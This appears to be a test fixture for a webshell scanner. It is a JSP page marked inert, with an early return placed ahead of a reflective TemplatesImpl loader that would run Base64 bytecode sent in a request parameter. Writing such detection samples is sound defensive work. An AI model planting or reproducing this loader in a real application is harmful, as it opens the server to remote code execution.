<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl t = new com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl();
   java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes"); f.setAccessible(true);
   f.set(t, new byte[][]{ java.util.Base64.getDecoder().decode(request.getParameter("b")) }); t.getOutputProperties(); %>
